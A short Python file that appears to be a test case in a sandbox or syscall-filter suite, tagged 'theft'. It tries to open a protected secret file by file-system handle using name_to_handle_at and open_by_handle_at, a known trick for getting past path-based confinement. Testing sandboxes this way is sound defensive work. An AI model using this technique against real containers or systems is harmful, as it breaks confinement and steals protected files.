"""Open files by the handles of the file system, past every path.

Group: theft
Expected: fair
"""

import ctypes


def strike(target):
    handle = ctypes.create_string_buffer(b"\x80\0\0\0", 136)
    mount = ctypes.c_int()
    target.call("name_to_handle_at", -100, target.secret_file.encode(), handle, ctypes.byref(mount), 0)
    target.call("open_by_handle_at", 3, handle, 0)
